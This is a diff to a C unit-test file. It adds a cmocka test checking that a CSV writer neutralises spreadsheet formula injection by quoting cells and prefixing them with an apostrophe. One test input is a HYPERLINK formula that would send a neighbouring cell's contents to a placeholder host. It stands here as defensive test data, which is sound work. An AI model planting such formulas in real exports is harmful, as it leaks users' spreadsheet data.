@@ -8,6 +8,7 @@
 #include <stdio.h>
 #include <string.h>
 
+#include "base/buf.h"
 #include "base/csvx.h"
 
 struct rows {
@@ -133,6 +134,32 @@ static void callback_stops(void **state)
 	assert_int_equal(count, 2);
 }
 
+static const char *cell(struct buf *b, const char *s)
+{
+	b->len = 0;
+	buf_puts(b, "");
+	csvx_cell(b, s);
+	return buf_str(b);
+}
+
+/* CSV injection (OWASP): a cell a spreadsheet would run is written as text. */
+static void formulas_neutralised(void **state)
+{
+	(void)state;
+	struct buf b = {0};
+	assert_string_equal(cell(&b, "=HYPERLINK(\"http://x/?\"&A2,\"click\")"),
+			    "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"click\"\")\"");
+	assert_string_equal(cell(&b, "+1"), "\"'+1\"");
+	assert_string_equal(cell(&b, "-2+3"), "\"'-2+3\"");
+	assert_string_equal(cell(&b, "@SUM(A1)"), "\"'@SUM(A1)\"");
+	assert_string_equal(cell(&b, "\tx"), "\"'\tx\"");
+	assert_string_equal(cell(&b, "\rx"), "\"'\rx\"");
+	assert_string_equal(cell(&b, "1号楼1单元101"), "1号楼1单元101");
+	assert_string_equal(cell(&b, "a,b"), "\"a,b\"");
+	assert_string_equal(cell(&b, "a=b"), "a=b");
+	buf_free(&b);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -141,6 +168,7 @@ int main(void)
 		cmocka_unit_test(utf8_validation),
 		cmocka_unit_test(callback_stops),
 		cmocka_unit_test(nul_refused),
+		cmocka_unit_test(formulas_neutralised),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
